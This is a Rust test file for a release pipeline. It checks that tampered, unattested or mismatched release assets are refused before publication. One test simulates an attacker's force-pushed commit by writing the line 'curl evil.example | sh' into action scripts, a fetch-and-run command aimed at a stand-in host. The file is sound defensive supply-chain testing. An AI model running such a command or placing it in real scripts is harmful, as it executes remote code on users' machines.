//! What is published for good: only the bytes of the manifest, with their provenance, and never other ones later.

use std::fs;

use super::assets::{TARGETS, names};
use super::world::World;

#[test]
fn what_has_no_provenance_or_another_hash_is_not_published() {
    let world = World::new();
    for script in ["prepare", "draft"] {
        world.step(script, "1.2.3").succeeds();
    }
    world.step("publish", "1.2.3").fails_with("");
    assert!(!world.state().join("published").exists(), "nothing was attested");

    world.step("attest", "1.2.3").succeeds();
    fs::write(
        world.state().join("assets").join(&names("1.2.3", TARGETS[1])[0]),
        "other",
    )
    .unwrap();
    world
        .step("publish", "1.2.3")
        .fails_with("the draft's `do-deploy-1.2.3-aarch64-unknown-linux-musl` has the sha256");
    assert!(
        !world.state().join("published").exists(),
        "the bytes are not the manifest's"
    );
}

#[test]
fn what_a_tag_called_like_the_default_branch_has_built_is_not_published() {
    let world = World::new();
    for script in ["prepare", "draft"] {
        world.step(script, "1.2.3").succeeds();
    }
    for reference in ["refs/tags/main", "refs/heads/other", "refs/pull/1/merge"] {
        world.attest_from(reference);
        world.step("publish", "1.2.3").fails_with("");
        assert!(!world.state().join("published").exists(), "{reference}");
    }
    world.attest_from("refs/heads/main");
    world.step("publish", "1.2.3").succeeds();
}

/// Whoever may push can put another commit of the same parent in place of the draft's.
#[test]
fn a_release_commit_that_changes_more_than_the_manifest_is_not_published() {
    for file in ["action/program.sh", "action.yml", "release/set-version"] {
        let world = World::new();
        for script in ["prepare", "draft", "attest"] {
            world.step(script, "1.2.3").succeeds();
        }
        world.git(&["fetch", "-q", "origin", "release-1.2.3"]);
        world.git(&["checkout", "-q", "--detach", "FETCH_HEAD"]);
        fs::write(world.clone().join(file), "#!/bin/sh\ncurl evil.example | sh\n").unwrap();
        world.git(&["add", "--all"]);
        world.git(&[
            "-c",
            "user.name=eve",
            "-c",
            "user.email=eve@example.com",
            "commit",
            "-q",
            "--amend",
            "--no-edit",
        ]);
        world.git(&["push", "-q", "--force", "origin", "HEAD:refs/heads/release-1.2.3"]);
        world.git(&["checkout", "-q", "main"]);
        world
            .step("publish", "1.2.3")
            .fails_with("changes more than `action/manifest.txt`");
        assert!(!world.state().join("published").exists(), "{file}");
    }
}

#[test]
fn an_asset_that_no_build_of_the_release_has_made_is_not_published() {
    for name in [
        "do-deploy-1.2.3-x86_64-pc-windows-msvc.exe",
        "install.sh",
        "do-deploy-1.2.2-x86_64-unknown-linux-musl",
    ] {
        let world = World::new();
        for script in ["prepare", "draft", "attest"] {
            world.step(script, "1.2.3").succeeds();
        }
        fs::write(world.state().join("assets").join(name), "evil").unwrap();
        world
            .step("publish", "1.2.3")
            .fails_with(&format!("the draft has `{name}`, which the manifest does not name"));
        assert!(!world.state().join("published").exists(), "{name}");
    }
}

#[test]
fn a_release_is_started_by_the_whole_ref_of_the_default_branch() {
    let workflow = include_str!("../../../.github/workflows/release.yml");
    assert!(workflow.contains("if: github.ref == format('refs/heads/{0}', github.event.repository.default_branch)"));
    assert!(
        !workflow.contains("ref_name"),
        "a tag called `main` has the branch's `ref_name`"
    );
}

#[test]
fn the_documented_verification_names_the_ref_and_the_workflow() {
    let page = include_str!("../../../docs/security.md");
    let command = page
        .split("gh attestation verify")
        .nth(1)
        .unwrap()
        .split("```")
        .next()
        .unwrap();
    for flag in [
        "--repo org/do-deploy",
        "--source-ref refs/heads/main",
        "--deny-self-hosted-runners",
        "--signer-workflow org/do-deploy/.github/workflows/release.yml",
    ] {
        assert!(command.contains(flag), "{flag}");
    }
}

#[test]
fn the_major_tag_stays_where_a_release_could_still_be_changed() {
    let world = World::new();
    fs::write(world.state().join("mutable"), "").unwrap();
    for script in ["prepare", "draft", "attest"] {
        world.step(script, "1.2.3").succeeds();
    }
    world.step("publish", "1.2.3").fails_with("enable immutable releases");
    assert!(!world.log().contains(&"git refs/tags/v1".to_owned()));
}

#[test]
fn a_published_release_is_not_drafted_again_from_other_bytes() {
    let world = World::new();
    world.release("1.2.3");
    fs::write(world.assets().join(&names("1.2.3", TARGETS[0])[0]), "other").unwrap();
    let before = world.log();
    world.step("draft", "1.2.3").fails_with("published with other bytes");
    assert_eq!(world.log(), before);
}
